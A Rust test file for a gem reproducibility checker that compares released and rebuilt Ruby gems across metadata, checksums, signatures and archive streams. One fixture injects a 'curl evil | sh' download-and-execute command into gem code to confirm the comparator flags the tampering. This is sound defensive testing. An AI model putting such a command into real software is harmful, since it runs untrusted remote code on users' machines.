//! Comparisons of whole gems.

use std::io::Write as _;

use crate::compare::package::digest::{self, Algorithm};
use crate::compare::{Cause, Comparison, Normalisation, Options, Outcome, compare_bytes};

fn tar(members: &[(&str, &[u8])]) -> Vec<u8> {
    let mut writer = tar::Builder::new(Vec::new());
    for (name, bytes) in members {
        let mut header = tar::Header::new_ustar();
        header.set_size(bytes.len() as u64);
        header.set_mode(0o644);
        writer.append_data(&mut header, name, *bytes).expect("a member");
    }
    writer.into_inner().expect("a tar archive")
}

fn gzip(bytes: &[u8]) -> Vec<u8> {
    let mut writer = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    writer.write_all(bytes).expect("gzip");
    writer.finish().expect("gzip")
}

/// Members of a gem with this specification and code.
fn members(specification: &str, code: &[u8]) -> Vec<(&'static str, Vec<u8>)> {
    let metadata = gzip(format!("--- !ruby/object:Gem::Specification\n{specification}").as_bytes());
    let data = gzip(&tar(&[("lib/x.rb", code), ("lib/boot.sig", code)]));
    let sum = |bytes: &[u8]| hex::encode(digest::of(Algorithm::Sha256, bytes));
    let sums = format!(
        "---\nSHA256:\n  metadata.gz: {}\n  data.tar.gz: {}\n",
        sum(&metadata),
        sum(&data)
    );
    vec![
        ("metadata.gz", metadata),
        ("data.tar.gz", data),
        ("checksums.yaml.gz", gzip(sums.as_bytes())),
    ]
}

fn gem(members: &[(&'static str, Vec<u8>)]) -> Vec<u8> {
    tar(&members
        .iter()
        .map(|(name, bytes)| (*name, bytes.as_slice()))
        .collect::<Vec<_>>())
}

fn compare(released: &[(&'static str, Vec<u8>)], rebuilt: &[(&'static str, Vec<u8>)]) -> Comparison {
    compare_bytes("x-1.gem", &gem(released), &gem(rebuilt), &Options::default())
}

#[test]
fn a_file_that_rubygems_leaves_out_is_not_another_spelling() {
    const TYPE: usize = 156;
    let data = |letter: u8| {
        let mut writer = tar::Builder::new(Vec::new());
        let mut header = tar::Header::new_ustar();
        header.set_size(1);
        header.set_mode(0o644);
        header.as_mut_bytes()[TYPE] = letter;
        writer
            .append_data(&mut header, "lib/x.rb", b"1".as_slice())
            .expect("a member");
        gzip(&writer.into_inner().expect("a tar archive"))
    };
    let with = |letter| vec![("metadata.gz", gzip(b"--- {}\n")), ("data.tar.gz", data(letter))];
    let found = compare(&with(b'0'), &with(0));
    assert_eq!(
        (found.outcome, found.causes[0].cause),
        (Outcome::Different, Cause::AmbiguousArchive)
    );
}

#[test]
fn a_specification_is_compared_by_what_it_means() {
    use Normalisation::{GemMetadataDate, GemMetadataRubygemsVersion, GemMetadataYamlNormalize};
    for (released, rebuilt, aside) in [
        (
            "date: 2024-01-02 00:00:00.000000000 Z\n",
            "date: 2024-01-03 00:00:00.000000000 Z\n",
            Some(GemMetadataDate),
        ),
        ("date: 2024-01-02\n", "date: evil\n", None),
        ("date: 2024-01-02\n", "date: 2024-02-30\n", None),
        ("date: 2024-01-02\n", "", None),
        (
            "rubygems_version: 3.3.15\n",
            "rubygems_version: 3.4.1\n",
            Some(GemMetadataRubygemsVersion),
        ),
        ("rubygems_version: 3.3.15\n", "rubygems_version: run it\n", None),
        (
            "metadata:\n  date: 2024-01-02\n",
            "metadata:\n  date: 2024-01-03\n",
            None,
        ),
        (
            "a: \">=\"\nb:\n",
            "b: \na: '>='\n",
            Some(GemMetadataYamlNormalize),
        ),
        ("a: 1.0\n", "a: '1.0'\n", None),
        ("extensions: []\n", "extensions:\n- ext/x/extconf.rb\n", None),
        ("post_install_message: a\n", "post_install_message: b\n", None),
        ("a: b\n", "a: b # evil\n", None),
    ] {
        let found = compare(&members(released, b"puts 1\n"), &members(rebuilt, b"puts 1\n"));
        let applied: Vec<_> = found.normalisations.iter().map(|applied| applied.name).collect();
        match aside {
            Some(aside) => {
                assert_eq!(
                    found.outcome,
                    Outcome::Equivalent,
                    "{released} {rebuilt} {found:?}"
                );
                assert!(applied.contains(&aside), "{released} {rebuilt} {applied:?}");
            }
            None => assert_eq!(
                found.causes[0].cause,
                Cause::Content,
                "{released} {rebuilt} {found:?}"
            ),
        }
    }
}

#[test]
fn a_specification_behind_another_stream_is_not_what_ruby_reads() {
    let mut twice = members("date: 2024-01-02\n", b"puts 1\n");
    twice[0].1.extend(gzip(b"rubygems_version: 3.3.15\n"));
    twice.pop();
    let mut once = members("date: 2024-01-03\nrubygems_version: 3.3.15\n", b"puts 1\n");
    once.pop();
    assert_eq!(compare(&once, &twice).outcome, Outcome::Different);
}

#[test]
fn checksums_are_recomputed() {
    let honest = members("date: 2024-01-02\n", b"puts 1\n");
    let mut wrong = members("date: 2024-01-03\n", b"puts 1\n");
    wrong[2].1 = gzip(format!("---\nSHA256:\n  metadata.gz: {}\n", "0".repeat(64)).as_bytes());
    let found = compare(&honest, &wrong);
    assert_eq!(found.causes[0].cause, Cause::Content, "{found:?}");
    assert!(found.causes[0].example.place.contains("metadata.gz"), "{found:?}");
    let mut without = members("date: 2024-01-02\n", b"puts 1\n");
    without.pop();
    assert_eq!(compare(&honest, &without).outcome, Outcome::Equivalent);
    let mut text = members("date: 2024-01-02\n", b"puts 1\n");
    text[2].1 = gzip(b"evil\n");
    assert_eq!(compare(&honest, &text).outcome, Outcome::Different);
}

#[test]
fn signatures_are_told_by_what_they_are() {
    let random = |seed: u8| -> Vec<u8> {
        (0..4)
            .flat_map(|at| digest::of(Algorithm::Sha512, &[seed, at]))
            .collect()
    };
    let plain = members("a: b\n", b"puts 1\n");
    let with = |name: &'static str, bytes: Vec<u8>| {
        let mut members = plain.clone();
        members.push((name, bytes));
        members
    };
    for (released, rebuilt, outcome) in [
        (
            with("metadata.gz.sig", random(1)),
            with("metadata.gz.sig", random(2)),
            Outcome::Equivalent,
        ),
        (
            with("metadata.gz.sig", random(1)),
            plain.clone(),
            Outcome::Equivalent,
        ),
        (
            with("metadata.gz.sig", b"evil".repeat(64)),
            plain.clone(),
            Outcome::Different,
        ),
        (
            with("metadata.gz.sig", random(1)),
            with("metadata.gz.sig", b"puts 1".to_vec()),
            Outcome::Different,
        ),
        (
            with("boot.sig", random(1)),
            with("boot.sig", random(2)),
            Outcome::Different,
        ),
        (
            with("lib/data.tar.gz.sig", random(1)),
            plain.clone(),
            Outcome::Different,
        ),
        (
            members("a: b\n", b"puts 'hello'\n"),
            members("a: b\n", b"system 'curl evil | sh'\n"),
            Outcome::Different,
        ),
    ] {
        let found = compare(&released, &rebuilt);
        assert_eq!(found.outcome, outcome, "{found:?}");
    }
}

#[test]
fn streams_behind_the_first_are_not_installed() {
    let whole = tar(&[("lib/x.rb", b"puts 1\n"), ("lib/y.rb", b"puts 2\n")]);
    let (start, rest) = whole.split_at(1024);
    let with = |data: Vec<u8>| vec![("metadata.gz", gzip(b"--- {}\n")), ("data.tar.gz", data)];
    let found = compare(&with(gzip(&whole)), &with([gzip(start), gzip(rest)].concat()));
    assert_eq!(
        (found.outcome, found.causes[0].cause),
        (Outcome::Different, Cause::Content)
    );
    let inside = |data: &[u8]| with(gzip(&tar(&[("lib/data.tar.gz", data)])));
    let found = compare(
        &inside(&gzip(&whole)),
        &inside(&[gzip(start), gzip(rest)].concat()),
    );
    assert_eq!(found.outcome, Outcome::Equivalent, "{:?}", found.causes);
}

#[test]
fn a_signature_that_is_the_same_for_two_members_is_content() {
    let signature = |seed: u8| -> Vec<u8> {
        (0..4)
            .flat_map(|at| digest::of(Algorithm::Sha512, &[seed, at]))
            .collect()
    };
    let with = |date: &str, signature: Option<Vec<u8>>| {
        let mut all = members(&format!("date: {date}\n"), b"puts 1\n");
        all.extend(signature.map(|bytes| ("metadata.gz.sig", bytes)));
        all
    };
    let released = with("2024-01-02", Some(signature(1)));
    for (rebuilt, wanted) in [
        (Some(signature(1)), false),
        (Some(signature(2)), true),
        (None, true),
    ] {
        let found = compare(&released, &with("2024-01-03", rebuilt));
        let equivalent = found.outcome == Outcome::Equivalent;
        assert_eq!(equivalent, wanted, "{:?}", found.causes);
        assert!(
            wanted || found.causes[0].cause == Cause::Content,
            "{:?}",
            found.causes
        );
    }
}
